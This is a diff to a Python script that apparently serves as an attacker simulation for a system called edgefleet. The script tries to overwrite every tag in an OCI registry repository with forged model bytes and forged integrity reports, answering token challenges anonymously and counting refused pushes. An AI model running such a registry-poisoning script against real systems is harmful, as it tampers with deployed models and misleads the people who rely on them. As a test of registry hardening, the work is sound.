@@ -1,6 +1,8 @@
-"""Run inside a pod on the real node, with no Kubernetes rights and no registry credentials: overwrite every tag
-of an edgefleet repository the way an unauthenticated push can. A report (JSON, sealed or not) is replaced by one
-naming a forged digest; any other layer (a variant) by forged bytes. Standard library only. Prints a JSON summary.
+"""Run inside a pod on the real node, with no Kubernetes rights and no registry credentials: try to overwrite every
+tag of an edgefleet repository. A report (JSON, sealed or not) is replaced by one naming a forged digest; any other
+layer (a variant) by forged bytes. Like any client it answers the registry's token challenge (anonymously), so it
+reads what anyone may read; a push the registry refuses is counted, not fatal. Standard library only. Prints a JSON
+summary: the tags overwritten (reports, variants) and the pushes refused.
 
 Usage: python attacker_push.py REGISTRY REPOSITORY"""
 
@@ -8,7 +10,10 @@ from __future__ import annotations
 
 import hashlib
 import json
+import re
 import sys
+import urllib.error
+import urllib.parse
 import urllib.request
 
 MANIFEST = "application/vnd.oci.image.manifest.v1+json"
@@ -16,9 +21,27 @@ FORGED_MODEL = b"forged model: always answers 7\n" * 64
 TIMEOUT = 10
 
 
+class Refused(Exception):
+    pass
+
+
 def _call(url: str, method: str = "GET", data: bytes | None = None, headers: dict | None = None):
-    req = urllib.request.Request(url, data=data, method=method, headers=headers or {})
-    return urllib.request.urlopen(req, timeout=TIMEOUT)
+    """The request, once more with an anonymous token when the registry asks for one; Refused on 401/403."""
+    headers = dict(headers or {})
+    for _ in range(2):
+        req = urllib.request.Request(url, data=data, method=method, headers=headers)
+        try:
+            return urllib.request.urlopen(req, timeout=TIMEOUT)
+        except urllib.error.HTTPError as err:
+            challenge = dict(re.findall(r'(\w+)="([^"]*)"', err.headers.get("WWW-Authenticate", "")))
+            if err.code not in (401, 403):
+                raise
+            if "Authorization" in headers or "realm" not in challenge:
+                raise Refused(f"{method} {url}: HTTP {err.code}") from err
+            query = urllib.parse.urlencode({k: challenge[k] for k in ("service", "scope") if k in challenge})
+            with urllib.request.urlopen(f"{challenge['realm']}?{query}", timeout=TIMEOUT) as answer:
+                headers["Authorization"] = f"Bearer {json.load(answer)['token']}"
+    raise AssertionError("unreachable")
 
 
 def _push_blob(base: str, registry: str, data: bytes) -> str:
@@ -61,8 +84,12 @@ def main(registry: str, repository: str) -> dict:
     base = f"http://{registry}/v2/{repository}"
     with _call(f"{base}/tags/list") as resp:
         tags = json.load(resp).get("tags") or []
-    forged_digest = _push_blob(base, registry, FORGED_MODEL)
-    done = {"reports": [], "variants": [], "forgedDigest": forged_digest}
+    forged_digest = "sha256:" + hashlib.sha256(FORGED_MODEL).hexdigest()
+    done = {"reports": [], "variants": [], "refused": 0, "tags": len(tags), "forgedDigest": forged_digest}
+    try:
+        _push_blob(base, registry, FORGED_MODEL)
+    except Refused:
+        done["refused"] += 1
     for tag in tags:
         with _call(f"{base}/manifests/{tag}", headers={"Accept": MANIFEST}) as resp:
             manifest = json.load(resp)
@@ -74,10 +101,14 @@ def main(registry: str, repository: str) -> dict:
         forged = _forged_report(original, forged_digest) if len(original) < (1 << 20) else None
         kind = "reports" if forged is not None else "variants"
         data = forged if forged is not None else FORGED_MODEL
-        layer.update(digest=_push_blob(base, registry, data), size=len(data))
-        manifest.setdefault("annotations", {})["io.edgefleet.digest"] = forged_digest
-        body = json.dumps(manifest).encode()
-        _call(f"{base}/manifests/{tag}", "PUT", body, {"Content-Type": MANIFEST}).close()
+        try:
+            layer.update(digest=_push_blob(base, registry, data), size=len(data))
+            manifest.setdefault("annotations", {})["io.edgefleet.digest"] = forged_digest
+            body = json.dumps(manifest).encode()
+            _call(f"{base}/manifests/{tag}", "PUT", body, {"Content-Type": MANIFEST}).close()
+        except Refused:
+            done["refused"] += 1
+            continue
         done[kind].append(tag)
     return done
 
